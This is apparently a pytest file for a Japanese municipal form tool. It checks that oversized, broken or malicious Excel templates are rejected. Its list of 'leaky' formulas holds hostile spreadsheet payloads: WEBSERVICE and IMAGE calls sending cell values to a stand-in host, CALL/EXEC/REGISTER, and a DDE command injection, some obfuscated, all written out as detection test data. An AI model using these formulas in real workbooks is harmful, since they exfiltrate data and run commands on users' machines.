"""町の様式として渡された、おかしなブックと悪意のあるブック。どれも一文で断り、止まらない。"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from jusou_desk.errors import BadInput
from jusou_desk.reports.drawing.drawings import XDR, read_spot
from jusou_desk.reports.drawing.shapes import Spot
from jusou_desk.reports.form.fill import fill
from jusou_desk.reports.inspection.calling_out import calls_out
from jusou_desk.reports.inspection.comparing import compare, label_of
from jusou_desk.reports.inspection.findings import Grade
from jusou_desk.reports.inspection.inspecting import Inspection, inspect
from jusou_desk.reports.inspection.inspecting_leaks import expect_harmless
from jusou_desk.reports.inspection.linking import link_place, put_tags
from jusou_desk.reports.inspection.vocabulary import Vocabulary, Word
from jusou_desk.reports.paging.figures import Ground
from jusou_desk.reports.paging.pages import MAX_PAGES
from jusou_desk.reports.xlsx.package import MAIN, dump_xml, parse_xml, read_parts, write_parts
from jusou_desk.reports.xlsx.refs import column_name
from jusou_desk.reports.xlsx.workbook import Workbook
from tests.reports.layouts import new_book, packet, put, saved

SHEET = "xl/worksheets/sheet1.xml"
WORDS = Vocabulary((Word("氏名"),), {"情報提供者": "取扱区分「同意未取得」の項目"})
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Change = Callable[[str], str]


@dataclass(frozen=True)
class To:
    sheet: str
    cell: str
    tag: str
    label: str = ""
    clears: bool = False


def form(*cells: tuple[str, str]) -> bytes:
    book, sheet = new_book("票")
    for place, words in cells or (("A1:D1", "{{氏名}}"),):
        put(sheet, place, words)
    parts = read_parts(saved(book))
    # openpyxl は字を番号(&#27663;)で書く。試験が字で探せるように書き直す。
    parts[SHEET] = dump_xml(parse_xml(parts[SHEET]))
    return write_parts(parts)


def changed(change: Change, part: str = SHEET, data: bytes = b"") -> bytes:
    parts = read_parts(data or form())
    before = parts[part].decode()
    parts[part] = change(before).encode()
    assert parts[part] != before.encode()
    return write_parts(parts)


def with_rows(rows: str) -> bytes:
    return changed(lambda sheet: sheet.replace("</sheetData>", f"{rows}</sheetData>"))


def shared(data: bytes) -> bytes:
    """升の字を、Excel と同じく共有の文字列に移したもの。"""
    words: list[str] = []

    def move(found: re.Match[str]) -> str:
        if found[1] not in words:
            words.append(found[1])
        return f't="s"><v>{words.index(found[1])}</v>'

    inline = r't="inlineStr"><is><t[^>]*>([^<]*)</t></is>'
    parts = read_parts(changed(lambda sheet: re.sub(inline, move, sheet), SHEET, data))
    items = "".join(f"<si><t>{one}</t></si>" for one in words)
    parts["xl/sharedStrings.xml"] = f'<sst xmlns="{MAIN[1:-1]}">{items}</sst>'.encode()
    rels = "xl/_rels/workbook.xml.rels"
    if b"sharedStrings" not in parts[rels]:
        relation = f'<Relationship Id="rId77" Type="{OFFICE}/sharedStrings" '
        end = b"</Relationships>"
        target = b'Target="sharedStrings.xml"/>'
        parts[rels] = parts[rels].replace(end, relation.encode() + target + end)
    return write_parts(parts)


def with_formula(formula: str) -> bytes:
    return with_rows(f'<row r="30"><c r="A30"><f>{formula}</f></c></row>')


def look(data: bytes) -> Inspection:
    return inspect(data, WORDS, packet({"氏名": "架空　太郎"}))


def reds(data: bytes) -> list[str]:
    return [one.what for one in look(data).findings if one.grade is Grade.RED]


# --- 大きさ -----------------------------------------------------------------


def test_番地の無い列の名は求めない() -> None:
    with pytest.raises(ValueError, match="-6"):
        column_name(-6)


@pytest.mark.parametrize(
    ("row", "column", "spot"),
    [(999_999_999, 99_999, Spot(1_048_576, 16_384, 0, 0)), (-7, -7, Spot(1, 1, 0, 0))],
)
def test_シートの外を指す図形は_端の升に置く(row: int, column: int, spot: Spot) -> None:
    words = f'<from xmlns="{XDR[1:-1]}"><col>{column}</col><row>{row}</row></from>'
    assert read_spot(parse_xml(words.encode())) == spot


def test_遠くの図形の場所を_升を数えずに求める() -> None:
    (sheet, _), *_ = fill(form(), packet({"氏名": "架空　太郎"})).sheets
    ground = Ground(sheet)
    far = 1_000_000
    near = max(sheet.heights, default=0) + 1
    assert ground.top(far) == pytest.approx(
        sheet.down(1, near - 1) + (far - near) * sheet.default_height
    )
    assert len(ground._tops._known) <= near


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (
            lambda: changed(lambda sheet: sheet.replace("{{氏名}}", "あ" * 32_768)),
            "A1の字が長すぎます",
        ),
        (
            lambda: with_rows(
                "".join(
                    f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{{{{氏名}}}}</t></is></c></row>'
                    for n in range(10, 5_011)
                )
            ),
            "タグのある升が多すぎる",
        ),
        (
            lambda: changed(
                lambda sheet: sheet.replace(
                    "<pageMargins",
                    '<conditionalFormatting sqref="A1">'
                    + '<cfRule type="expression" priority="1"><formula>1</formula></cfRule>' * 501
                    + "</conditionalFormatting><pageMargins",
                )
            ),
            "条件付き書式が多すぎます",
        ),
        (
            lambda: changed(
                lambda sheet: sheet.replace(
                    "<sheetData",
                    "<cols>"
                    + '<col min="1" max="16384" width="9"/>' * 20_000
                    + "</cols><sheetData",
                    1,
                )
            ),
            "同じ列に何度も",
        ),
    ],
)
def test_多すぎるものは_赤の一文で断る(data: Callable[[], bytes], told: str) -> None:
    (one,) = reds(data())
    assert told in one


def test_頁の多すぎるシートは_組まずに知らせる() -> None:
    rows = "".join(
        f'<row r="{n}" ht="400" customHeight="1"><c r="A{n}"><v>1</v></c></row>'
        for n in range(10, 2 * MAX_PAGES + 12)
    )
    seen = look(with_rows(rows))
    assert any("多すぎるため、PDFにしません" in one.what for one in seen.findings)
    assert not seen.usable


def test_二枚のシートが一つの中身を指すブックは断る() -> None:
    def twice(book: str) -> str:
        found = re.search(r"<sheet [^>]*/>", book)
        assert found is not None
        second = found[0].replace('name="票"', 'name="写し"').replace('Id="1"', 'Id="2"')
        return book.replace(found[0], found[0] + second)

    with pytest.raises(BadInput, match="「写し」"):
        Workbook(changed(twice, "xl/workbook.xml"))


def test_字の大きさは_Excelの上限まで() -> None:
    data = changed(lambda s: re.sub(r'<sz val="[^"]+"', '<sz val="9999"', s), "xl/styles.xml")
    assert Workbook(data).styles.normal.size == 409


# --- 壊れた部品 -------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        lambda s: s.replace('ref="A1:D1"', 'ref="??"'),
        lambda s: s.replace('<row r="1"', '<row r="x"'),
        lambda s: s.replace('<c r="A1"', '<c r="1A"'),
    ],
    ids=["結合", "行", "升"],
)
def test_壊れた番地や番号は_赤の一文(change: Change) -> None:
    (one,) = reds(changed(change))
    assert "書き方が正しくありません" in one


def test_数でない共有の番号も_赤の一文() -> None:
    data = shared(form())
    (one,) = reds(changed(lambda s: re.sub("<v>0</v>", "<v>abc</v>", s), SHEET, data))
    assert "書き方が正しくありません" in one


def test_壊れたブックは_去年の様式と比べるときも断る() -> None:
    broken = changed(lambda sheet: sheet.replace('ref="A1:D1"', 'ref="??"'))
    with pytest.raises(BadInput, match="書き方が正しくありません"):
        compare(form(), broken, [To("票", "A1", "氏名")])
    with pytest.raises(BadInput, match="書き方が正しくありません"):
        label_of(broken, "票", "A1")


# --- 結び -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        *((cell, "の升はありません") for cell in ("G", "10", "A0", "ZZZZ1", "XFE1", "A1048577")),
        ("C14:D14", "一つの升"),
        ("総括!B1", "シートの名は書けません"),
    ],
)
def test_升一つでない番地には結べない(cell: str, told: str) -> None:
    with pytest.raises(BadInput, match=told):
        link_place(cell)
    with pytest.raises(BadInput, match=told):
        put_tags(form(), [To("票", cell, "氏名")])


def test_端の升までは結べる() -> None:
    assert link_place("$XFD$1048576") == (1_048_576, 16_384)


@pytest.mark.parametrize(("others", "stays"), [((), False), ((("A3", "前任　子"),), True)])
def test_消して入れる升の字は_部品の中にも残らない(
    others: tuple[tuple[str, str], ...], stays: bool
) -> None:
    data = shared(form(("A1", "前任　子"), ("A2", "見出し"), *others))
    made = read_parts(put_tags(data, [To("票", "A1", "氏名", clears=True)]))
    left = [name for name, content in made.items() if "前任　子".encode() in content]
    # ほかの升が同じ字を使っていれば、その升の字なので残す。
    assert left == (["xl/sharedStrings.xml"] if stays else [])
    assert "見出し".encode() in made["xl/sharedStrings.xml"]


# --- 外へ出る式 ---------------------------------------------------------------

LEAKY = (
    '_xlfn.IMAGE("https://e.example/?q="&amp;A1)',
    'WEB&#83;ERVICE("https://e.example/"&amp;A1)',
    '<![CDATA[WEBSERVICE("https://e.example/"&A1)]]>',
    "_xlfn.WEBSERVICE (A1)",
    '\'a"b\'!A1&amp;WEBSERVICE("https://e.example")',
    'HYPERLINK("https://e.example/?"&amp;A1,"開く")',
    'CALL("urlmon","x",A1)',
    'EXEC("cmd")',
    'REGISTER("x")',
    "cmd|'/C calc'!A0",
)
HARMLESS = (
    'HYPERLINK("https://www.example.lg.jp/","町のページ")',
    'HYPERLINK("#"&amp;CELL("address",A1),"先頭へ")',
    'IF(A1="WEBSERVICE(","外","内")',
    "'甲|乙'!A1",
    "MYIMAGE(A1)",
)


@pytest.mark.parametrize("formula", LEAKY)
def test_外へ値を送る式は赤で_命令で渡しても断る(formula: str) -> None:
    data = with_formula(formula)
    assert any("外とつながる数式" in what for what in reds(data))
    with pytest.raises(BadInput, match="外とつながる数式"):
        expect_harmless(Workbook(data))


@pytest.mark.parametrize("piece", ["|", "HYPERLINK(", "'", '"', "HYPERLINK(("])
def test_長い数式も_長さに見合う時間で見る(piece: str) -> None:
    parts = {"xl/worksheets/sheet1.xml": f"<x><f>{piece * 200_000}</f></x>".encode()}
    started = time.process_time()
    calls_out(parts)
    assert time.process_time() - started < 5


def test_字に続けて結んだ升の字は_消した字として残らない() -> None:
    """続けて書くと字は升に移るので、共有の文字列には要らない。ほかの升が使う字は残る。"""
    data = shared(form(("A1", "氏名："), ("A2", "電話："), ("A3", "電話：")))
    links = [To("票", "A1", "氏名"), To("票", "A2", "電話")]
    strings = read_parts(put_tags(data, links))["xl/sharedStrings.xml"].decode()
    assert "氏名：" not in strings
    assert strings.count("電話：") == 1
    found = inspect(data, WORDS, packet({"氏名": "架空"}), links[:1]).findings
    assert not [one.what for one in found if "消した字" in one.what]


@pytest.mark.parametrize("formula", HARMLESS)
def test_外へ出ない式はとがめない(formula: str) -> None:
    expect_harmless(Workbook(with_formula(formula)))


_OUT = 'WEBSERVICE("https://e.example/"&amp;A1)'
_RULE = (
    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
    f"<formula>{_OUT}</formula></cfRule></conditionalFormatting>"
)
_VALIDATION = (
    '<dataValidations count="1"><dataValidation type="custom" sqref="A1">'
    f"<formula1>{_OUT}</formula1></dataValidation></dataValidations>"
)


@pytest.mark.parametrize("rule", [_RULE, _VALIDATION], ids=["条件付き書式", "入力規則"])
def test_条件や規則の中の式も見る(rule: str) -> None:
    data = changed(lambda sheet: sheet.replace("<pageMargins", f"{rule}<pageMargins"))
    with pytest.raises(BadInput, match="外とつながる数式"):
        expect_harmless(Workbook(data))


def test_ほかの文字コードの部品も_名前の定義も見る() -> None:
    parts = read_parts(with_formula(_OUT))
    parts[SHEET] = re.sub(r"<\?xml.*?\?>", "", parts[SHEET].decode()).encode("utf-16")
    named = changed(
        lambda book: re.sub(r"<definedNames\s*/>", "", book).replace(
            "</sheets>",
            f'</sheets><definedNames><definedName name="x">{_OUT}</definedName></definedNames>',
        ),
        "xl/workbook.xml",
    )
    for data in (write_parts(parts), named):
        with pytest.raises(BadInput, match="外とつながる数式"):
            expect_harmless(Workbook(data))


# --- 図形の中のタグ -----------------------------------------------------------


def with_shape(words: str, data: bytes) -> bytes:
    """``words`` と書いた四角のある様式。"""
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    shape = (
        '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="2" name="四角"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr>'
        '<a:prstGeom prst="rect"/></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r>'
        f"<a:t>{words}</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/>"
    )
    place = (
        "<xdr:from><xdr:col>0</xdr:col><xdr:row>3</xdr:row></xdr:from>"
        "<xdr:to><xdr:col>4</xdr:col><xdr:row>8</xdr:row></xdr:to>"
    )
    parts = read_parts(data)
    parts["xl/drawings/drawing1.xml"] = (
        f'<xdr:wsDr xmlns:xdr="{drawing}/spreadsheetDrawing" xmlns:a="{drawing}/main">'
        f"<xdr:twoCellAnchor>{place}{shape}</xdr:twoCellAnchor></xdr:wsDr>"
    ).encode()
    parts[SHEET] = parts[SHEET].replace(
        b"</worksheet>", f'<drawing xmlns:r="{OFFICE}" r:id="rId7"/></worksheet>'.encode()
    )
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId7" Type="{OFFICE}/drawing" Target="/xl/drawings/drawing1.xml"/>'
        "</Relationships>"
    ).encode()
    return write_parts(parts)


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("{{氏目}}", "「氏目」が分かりません"),
        ("{{氏名", "括弧が片方しか"),
        ("{{情報提供者}}", "載せられません"),
    ],
)
def test_図形の中の_使えないタグは赤(words: str, told: str) -> None:
    assert any(told in what for what in reds(with_shape(words, form())))


def test_タグが図形の中だけにある様式も使える() -> None:
    assert look(with_shape("{{氏名}}", form(("A1", "見出し")))).usable
